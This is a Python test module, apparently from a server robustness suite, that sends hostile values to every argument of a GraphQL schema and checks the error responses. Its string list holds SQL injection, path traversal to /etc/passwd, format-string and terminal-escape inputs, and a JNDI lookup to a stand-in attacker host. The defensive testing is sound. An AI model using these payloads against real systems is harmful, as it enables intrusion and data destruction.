"""Every argument of the schema with values that no one means well with."""

from collections.abc import Iterator
from typing import Any

from graphql import (
    GraphQLEnumType,
    GraphQLField,
    GraphQLInputObjectType,
    GraphQLInputType,
    GraphQLList,
    GraphQLNonNull,
    GraphQLSchema,
    build_schema,
    get_named_type,
    is_leaf_type,
)

from attack.talk import Talker, expected

_STRINGS = [
    "'; DROP TABLE bots; --",
    "' OR '1'='1",
    '"; SELECT pg_sleep(5); --',
    "$1",
    "%s%n%x",
    "a\x00b",
    "\ud800",
    "\x1b[2J\r\nInjected: yes",
    "\u202egnp.exe",
    "x" * 100_000,
    "../../../etc/passwd",
    "{{7*7}}${jndi:ldap://evil.example}",
]
_NUMBERS: list[Any] = [
    2**31,
    2**63,
    -(2**63) - 1,
    10**400,
    -1,
    0,
    1.5,
    1e308,
    "9" * 6_000,
    "NaN",
    "Infinity",
    "1e999999999",
    True,
]
_DEEP: Any = 0
for _ in range(900):
    _DEEP = [_DEEP]
HOSTILE: dict[str, list[Any]] = {
    "String": _STRINGS,
    "ID": [*_STRINGS, *_NUMBERS],
    "Int": _NUMBERS,
    "Float": _NUMBERS,
    "BigInt": _NUMBERS,
    "Decimal": [*_NUMBERS, "-0", "0." + "0" * 30 + "1", "1_000", "٣", "9" * 39],
    "DateTime": [
        "0000-01-01T00:00:00Z",
        "0001-01-01T00:00:00+23:59",
        "1969-12-31T23:59:59Z",
        "2262-01-01T00:00:00Z",
        "9999-12-31T23:59:59Z",
        "275760-09-13T00:00:00Z",
        "2024-02-30T00:00:00Z",
        "2024-01-01",
        "now",
        *_NUMBERS,
    ],
    "Timeframe": ["999999999999999m", "0s", "-1m", "1", "m", "1y", "9" * 5_000 + "s", *_STRINGS[:6], *_NUMBERS],
    "Boolean": ["true", 1, _DEEP],
    "JSON": [_DEEP, {"a": "\x00"}, {"\x00": 1}, {"a": "\ud800"}, ["x" * 1_000] * 1_000, 10**400, 1e308, "\x00"],
}
_GOOD: dict[str, Any] = {
    "String": "BTC-USDT",
    "ID": "1",
    "Int": 1,
    "BigInt": "1",
    "Decimal": "1",
    "DateTime": "2024-01-01T00:00:00Z",
    "Timeframe": "1m",
    "Boolean": False,
    "JSON": {},
}
_LONG_LISTS: list[tuple[str, dict[str, Any]]] = [
    ("mutation ($x: [CandleInput!]!) { upsertCandles(input: $x) { storedCount } }", {"x": [element] * 10_000})
    for element in (None, 1, {}, {"symbol": "\x00"})
]


async def hostile_values(talker: Talker, schema_text: str) -> tuple[list[str], int]:
    """Send each to each argument, by variable; what went wrong, and how many were sent."""
    wrong, count = [], 0
    for query, variables in [*_calls(build_schema(schema_text)), *_LONG_LISTS]:
        answer = await talker.ask(query, variables)
        allowed = ("BAD_USER_INPUT", "NOT_FOUND", "CONFLICT", "GRAPHQL_VALIDATION_FAILED", "COST_LIMIT_EXCEEDED")
        place = f"{query[:60]} {str(variables)[:60]}"
        wrong += expected(place, answer, (200, 400, 413), allowed if answer.codes else ())
        count += 1
    return wrong, count


def _calls(schema: GraphQLSchema) -> Iterator[tuple[str, dict[str, Any]]]:
    for kind, root in (("query", schema.query_type), ("mutation", schema.mutation_type)):
        assert root is not None
        for name, field in root.fields.items():
            good = {
                argument: _good(of.type) for argument, of in field.args.items() if of.type.__class__ is GraphQLNonNull
            }
            for argument, of in field.args.items():
                for bad in _bad(of.type):
                    yield _call(kind, name, field, good | {argument: bad}), good | {argument: bad}


def _call(kind: str, name: str, field: GraphQLField, variables: dict[str, Any]) -> str:
    declared = ", ".join(f"${argument}: {field.args[argument].type}" for argument in variables)
    passed = ", ".join(f"{argument}: ${argument}" for argument in variables)
    selected = "" if is_leaf_type(get_named_type(field.type)) else "{ __typename }"
    return f"{kind} ({declared}) {{ {name}({passed}) {selected} }}"


def _good(type_: GraphQLInputType) -> Any:
    match type_:
        case GraphQLNonNull():
            return _good(type_.of_type)
        case GraphQLList():
            return [_good(type_.of_type)]
        case GraphQLInputObjectType():
            return {name: _good(of.type) for name, of in type_.fields.items() if isinstance(of.type, GraphQLNonNull)}
        case GraphQLEnumType():
            return next(iter(type_.values))
        case _:
            return _GOOD[type_.name]


def _bad(type_: GraphQLInputType) -> Iterator[Any]:
    """Of an input object each field in turn, in an otherwise good one."""
    match type_:
        case GraphQLNonNull():
            yield from _bad(type_.of_type)
            yield None
        case GraphQLList():
            yield from ([bad] for bad in _bad(type_.of_type))
        case GraphQLInputObjectType():
            good = _good(type_)
            for name, of in type_.fields.items():
                yield from (good | {name: bad} for bad in _bad(of.type))
            yield good | {"unknown": 1}
        case GraphQLEnumType():
            yield from ("", "NOTHING", 1, "\x00")
        case _:
            yield from HOSTILE[type_.name]
            yield _DEEP
